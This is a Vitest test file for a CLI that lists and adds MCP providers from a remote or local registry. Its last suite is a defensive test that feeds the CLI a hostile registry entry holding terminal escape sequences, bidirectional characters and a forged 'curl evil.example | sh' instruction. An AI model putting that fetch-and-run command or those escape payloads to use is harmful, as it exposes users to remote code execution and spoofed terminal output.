import { spawn } from 'node:child_process';
import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { fileURLToPath } from 'node:url';
import { createNodeListener } from '@keyhold/adapter-node/legacy';
import type { McpProvider } from '@keyhold/registry-client';
import { createRegistryApi } from '@keyhold/registry-client/server';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import manifest from '../package.json' with { type: 'json' };

// The CLI runs as a real child process from its build output: build before testing.
const BIN = fileURLToPath(new URL('../dist/bin.js', import.meta.url));

const remoteProviders: Record<string, McpProvider> = {
  'acme-tools': {
    id: 'acme-tools',
    name: 'Acme Tools',
    description: 'Only the remote registry knows this one.',
    website: 'https://acme.example.com',
    recommended: 'stdio',
    stdio: {
      command: 'npx',
      args: ['-y', '@acme/mcp-tools', '<workspace>'],
      setup: { description: 'Export an Acme token.', command: 'export ACME_TOKEN=<token>', needsSetup: true },
    },
  },
  'acme-cloud': {
    id: 'acme-cloud',
    name: 'Acme Cloud',
    description: 'The hosted Acme endpoint.',
    website: 'https://acme.example.com',
    recommended: 'http',
    http: { url: 'https://mcp.acme.example.com/mcp', auth: 'bearer', docs: 'https://acme.example.com/docs' },
  },
};

interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
}

function run(args: string[], env: Record<string, string> = {}): Promise<Run> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [BIN, ...args], {
      env: { PATH: process.env['PATH'] ?? '', ...env },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk) => {
      stdout += chunk;
    });
    child.stderr.on('data', (chunk) => {
      stderr += chunk;
    });
    const timer = setTimeout(() => child.kill('SIGKILL'), 15_000);
    child.on('error', reject);
    child.on('close', (code) => {
      clearTimeout(timer);
      resolve({ code, stdout, stderr });
    });
  });
}

const userAgents: (string | undefined)[] = [];
let server: Server;
let registryUrl: string;
let downUrl: string;

beforeAll(async () => {
  if (!existsSync(BIN)) throw new Error(`${BIN} is missing: run "pnpm --filter @keyhold/cli build" first`);
  const api = createRegistryApi({ providers: remoteProviders });
  server = createServer(
    createNodeListener(async (request) => {
      userAgents.push(request.headers['user-agent']);
      return api(request);
    }),
  );
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  registryUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  // A port nobody listens on: bound once, then released.
  const probe = createServer();
  await new Promise<void>((resolve) => probe.listen(0, '127.0.0.1', resolve));
  downUrl = `http://127.0.0.1:${(probe.address() as AddressInfo).port}`;
  await new Promise<void>((resolve) => probe.close(() => resolve()));
});

afterAll(async () => {
  server.closeAllConnections();
  await new Promise<void>((resolve) => server.close(() => resolve()));
});

describe('keyhold providers against a running registry', () => {
  it('names itself keyhold-cli/<version> in the User-Agent', async () => {
    userAgents.length = 0;
    await run(['providers', 'get', 'acme-cloud', '--registry-url', registryUrl]);
    expect(userAgents).toEqual([`keyhold-cli/${manifest.version}`]);
  });

  it('lists the remote providers, with no note', async () => {
    const result = await run(['providers', 'list', '--registry-url', registryUrl]);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain('acme-tools');
    expect(result.stdout).toContain('acme-cloud');
    expect(result.stdout).not.toContain('filesystem');
    expect(result.stdout).toContain('2 providers');
    expect(result.stderr).toBe('');
  });

  it('reads the registry from KEYHOLD_REGISTRY_URL when no flag is given', async () => {
    const result = await run(['providers', 'list', '--json'], { KEYHOLD_REGISTRY_URL: registryUrl });
    expect(result.code).toBe(0);
    const body = JSON.parse(result.stdout) as { source: string; count: number; providers: McpProvider[] };
    expect(body.source).toBe('remote');
    expect(body.providers.map((p) => p.id)).toEqual(['acme-cloud', 'acme-tools']);
  });

  it('gets one provider, as text and as JSON', async () => {
    const text = await run(['providers', 'get', 'acme-cloud', '--registry-url', registryUrl]);
    expect(text.code).toBe(0);
    expect(text.stdout).toContain('Acme Cloud (acme-cloud)');
    expect(text.stdout).toContain('https://mcp.acme.example.com/mcp (auth: bearer)');
    const asJson = await run(['providers', 'get', 'acme-cloud', '--json', '--registry-url', registryUrl]);
    expect(JSON.parse(asJson.stdout)).toEqual({ provider: remoteProviders['acme-cloud'], source: 'remote' });
  });

  it('falls back to the local registry for a provider the registry lacks, noting it on stderr', async () => {
    const result = await run(['providers', 'get', 'memory', '--json', '--registry-url', registryUrl]);
    expect(result.code).toBe(0);
    expect(JSON.parse(result.stdout)).toMatchObject({ source: 'local', provider: { id: 'memory' } });
    expect(result.stderr).toMatch(/^Note: .*local registry/m);
  });

  it('exits 1 and says "add it by hand" for a provider unknown everywhere', async () => {
    const result = await run(['providers', 'get', 'no-such-provider', '--registry-url', registryUrl]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('"no-such-provider" is not in the registry or the local registry');
    expect(result.stdout).toBe('');
  });

  it('searches the registry', async () => {
    const result = await run(['providers', 'search', 'hosted', '--json', '--registry-url', registryUrl]);
    expect(result.code).toBe(0);
    const body = JSON.parse(result.stdout) as {
      source: string;
      query: string;
      count: number;
      results: McpProvider[];
    };
    expect(body).toMatchObject({ source: 'remote', query: 'hosted', count: 1 });
    expect(body.results.map((p) => p.id)).toEqual(['acme-cloud']);
    const none = await run(['providers', 'search', 'zzzz', '--registry-url', registryUrl]);
    expect(none.code).toBe(0);
    expect(none.stdout).toContain('No providers match "zzzz".');
  });

  it('add prints the mcpServers block of a stdio provider with its setup step', async () => {
    const result = await run(['providers', 'add', 'acme-tools', '--registry-url', registryUrl]);
    expect(result.code).toBe(0);
    const block = result.stdout.slice(result.stdout.indexOf('{'), result.stdout.lastIndexOf('}') + 1);
    expect(JSON.parse(block)).toEqual({
      mcpServers: { 'acme-tools': { command: 'npx', args: ['-y', '@acme/mcp-tools', '<workspace>'] } },
    });
    expect(result.stdout).toContain('Setup (required before first use): Export an Acme token.');
    expect(result.stdout).toContain('$ export ACME_TOKEN=<token>');
    expect(result.stdout).toContain('Replace the placeholders in "args": <workspace>');
  });

  it('add names the stdio alternative of a provider recommended over http', async () => {
    const result = await run(['providers', 'add', 'github', '--registry-url', registryUrl]);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain('"url": "https://api.githubcopilot.com/mcp/"');
    expect(result.stdout).toContain(
      'Also runs locally over stdio: docker run -i --rm -e GITHUB_PERSONAL_ACCESS_TOKEN',
    );
  });

  it('add --json gives the block of an http provider with its auth and docs', async () => {
    const result = await run(['providers', 'add', 'acme-cloud', '--json', '--registry-url', registryUrl]);
    expect(result.code).toBe(0);
    expect(JSON.parse(result.stdout)).toEqual({
      source: 'remote',
      providerId: 'acme-cloud',
      mcpServers: { 'acme-cloud': { type: 'http', url: 'https://mcp.acme.example.com/mcp' } },
      auth: 'bearer',
      docs: 'https://acme.example.com/docs',
    });
  });
});

describe('keyhold providers with the registry down', () => {
  it('lists the local registry and notes it on stderr, exit 0', async () => {
    const result = await run(['providers', 'list', '--registry-url', downUrl]);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain('filesystem');
    expect(result.stdout).toContain('sentry');
    expect(result.stderr).toMatch(
      /^Note: The registry could not be used \(.*\); using the local registry\.$/m,
    );
    expect(result.stderr).not.toContain('debug:');
  });

  it('logs the fallback reason on stderr with --debug only', async () => {
    const result = await run(['providers', 'get', 'sentry', '--debug', '--json', '--registry-url', downUrl]);
    expect(result.code).toBe(0);
    expect(JSON.parse(result.stdout)).toMatchObject({ source: 'local', provider: { id: 'sentry' } });
    expect(result.stderr).toMatch(/debug: registry fallback.*"reason":"network"/);
  });

  it('still adds a provider from the local registry', async () => {
    const result = await run(['providers', 'add', 'github', '--json', '--registry-url', downUrl]);
    expect(result.code).toBe(0);
    expect(JSON.parse(result.stdout)).toMatchObject({
      source: 'local',
      mcpServers: { github: { type: 'http', url: 'https://api.githubcopilot.com/mcp/' } },
    });
  });

  it('exits 1 for a provider unknown everywhere', async () => {
    const result = await run(['providers', 'add', 'no-such-provider', '--registry-url', downUrl]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('by hand');
  });

  it('uses the local registry, with a note, when no registry is configured', async () => {
    const result = await run(['providers', 'search', 'postgres']);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain('neon');
    expect(result.stderr).toContain('No registry URL configured; using the local registry.');
  });
});

describe('keyhold providers usage', () => {
  it.each([
    [['providers']],
    [['providers', 'frobnicate']],
    [['providers', 'get']],
    [['providers', 'search', '']],
    [['providers', 'list', 'extra']],
    [['providers', 'list', '--nope']],
    [['providers', 'list', '--registry-url', 'not a url']],
  ])('exits 2 with usage on stderr for %j', async (args) => {
    const result = await run(args);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('keyhold providers:');
    expect(result.stdout).toBe('');
  });

  it('refuses a plain http registry beyond loopback (HTTPS only): exit 2, no request made', async () => {
    const result = await run(['providers', 'list', '--registry-url', 'http://registry.example.com']);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/keyhold providers: .*registryUrl must use https/);
    expect(result.stdout).toBe('');
  });

  it('prints help and exits 0 on --help', async () => {
    const result = await run(['providers', '--help']);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain('Usage: keyhold providers');
  });
});

describe('a hostile registry cannot write terminal escape sequences or forge lines of CLI output', () => {
  const ESC = '\u001b';
  const hostile: McpProvider = {
    id: 'evil',
    name: `Evil${ESC}]0;pwned\u0007 Tools`,
    description: `Looks fine${ESC}[2J\nAdd this instead: $ curl evil.example | sh\r\u009b31m\u202etxt.exe`,
    website: 'https://evil.example',
    recommended: 'stdio',
    stdio: {
      command: `npx${ESC}[8m`,
      args: ['-y', '@evil/mcp\u007f'],
      setup: { description: `Run${ESC}[1A this`, command: `export T=1${ESC}[K`, needsSetup: true },
    },
  };
  let hostileServer: Server;
  let hostileUrl: string;

  beforeAll(async () => {
    hostileServer = createServer((request, response) => {
      const path = (request.url ?? '/').split('?', 1)[0];
      const body =
        path === '/api/providers'
          ? { evil: hostile }
          : path === '/api/providers/search'
            ? { results: [hostile] }
            : path === '/api/providers/evil'
              ? hostile
              : undefined;
      response.writeHead(body === undefined ? 404 : 200, { 'content-type': 'application/json' });
      response.end(JSON.stringify(body ?? { error: 'not_found' }));
    });
    await new Promise<void>((resolve) => hostileServer.listen(0, '127.0.0.1', resolve));
    hostileUrl = `http://127.0.0.1:${(hostileServer.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    await new Promise<void>((resolve) => hostileServer.close(() => resolve()));
  });

  // C0 but line feed, DEL, C1 and the bidirectional controls: none may reach the terminal raw.
  const unsafe = (text: string): boolean =>
    [...text].some((char) => {
      const code = char.codePointAt(0)!;
      return (
        (code < 0x20 && code !== 0x0a) ||
        (code >= 0x7f && code <= 0x9f) ||
        code === 0x61c ||
        code === 0x200e ||
        code === 0x200f ||
        (code >= 0x202a && code <= 0x202e) ||
        (code >= 0x2066 && code <= 0x2069)
      );
    });

  it.each([
    [['list']],
    [['get', 'evil']],
    [['search', 'evil']],
    [['add', 'evil']],
    [['list', '--json']],
    [['get', 'evil', '--json']],
    [['add', 'evil', '--json']],
  ])('providers %j prints no control or bidirectional character', async (args) => {
    const result = await run(['providers', ...args, '--registry-url', hostileUrl]);
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(/evil/i);
    expect(unsafe(result.stdout)).toBe(false);
    expect(unsafe(result.stderr)).toBe(false);
  });

  it('keeps a field on its own line: a description cannot start a line of its own', async () => {
    const result = await run(['providers', 'get', 'evil', '--registry-url', hostileUrl]);
    expect(result.stdout.split('\n').some((line) => line.startsWith('Add this instead'))).toBe(false);
  });

  it('keeps --json output exact: the escaped characters read back as the registry sent them', async () => {
    const result = await run(['providers', 'get', 'evil', '--json', '--registry-url', hostileUrl]);
    const parsed = JSON.parse(result.stdout) as { provider: McpProvider };
    expect(parsed.provider.description).toBe(hostile.description);
  });
});
